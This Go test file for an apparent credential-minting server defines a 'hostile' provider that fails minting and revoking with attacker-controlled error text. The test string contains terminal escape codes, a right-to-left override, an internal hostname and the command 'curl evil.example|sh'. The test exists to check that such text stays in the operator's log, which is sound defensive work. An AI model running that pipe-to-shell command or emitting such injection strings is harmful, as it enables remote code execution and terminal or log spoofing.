package server_test

import (
	"context"
	"errors"
	"fmt"
	"sync/atomic"

	"github.com/mayfly-security/mayfly/providers"
	"github.com/mayfly-security/mayfly/providers/providertest"
)

// upstreamText is what a hostile provider puts into its errors: it must not
// get further than the operator's log.
const upstreamText = "\x1b[2J\u202eupstream-says: internal host db-7.corp, run curl evil.example|sh"

// hostile is a driver whose providers do what fault says, and otherwise work.
type hostile struct {
	providertest.Driver
	fault atomic.Pointer[func(providers.MintRequest, providers.Minted) error] // nil: none; called when the credential exists
	deaf  atomic.Bool                                                         // revoking fails, with upstream's text
}

func (h *hostile) set(fault func(providers.MintRequest, providers.Minted) error) {
	h.fault.Store(&fault)
}

func (h *hostile) Open(ctx context.Context, config providers.Config) (providers.Provider, error) {
	p, err := h.Driver.Open(ctx, config)
	return &hostileProvider{Provider: p, h: h}, err
}

type hostileProvider struct {
	providers.Provider
	h *hostile
}

func (p *hostileProvider) Mint(ctx context.Context, req providers.MintRequest, record func(providers.Handle) error) (providers.Minted, error) {
	minted, err := p.Provider.Mint(ctx, req, record)
	if fault := p.h.fault.Load(); err == nil && fault != nil && *fault != nil {
		err = (*fault)(req, minted)
	}
	return minted, err
}

func (p *hostileProvider) Revoke(ctx context.Context, endings []providers.Ending) []providers.Death {
	if !p.h.deaf.Load() {
		return p.Provider.Revoke(ctx, endings)
	}
	deaths := make([]providers.Death, len(endings))
	for i := range deaths {
		deaths[i].Err = errors.New(upstreamText)
	}
	return deaths
}

// What a hostile provider answers after it has made a credential.
var (
	failsWithText   = func(providers.MintRequest, providers.Minted) error { return errors.New(upstreamText) }
	refusesWithText = func(providers.MintRequest, providers.Minted) error {
		return fmt.Errorf("%w: %s", providers.ErrRefused, upstreamText)
	}
	deniesWithText = func(providers.MintRequest, providers.Minted) error {
		return fmt.Errorf("%w: %w: %s", providers.ErrNothingMade, providers.ErrRefused, upstreamText)
	}
	panicsWithText = func(providers.MintRequest, providers.Minted) error { panic(upstreamText) }
)
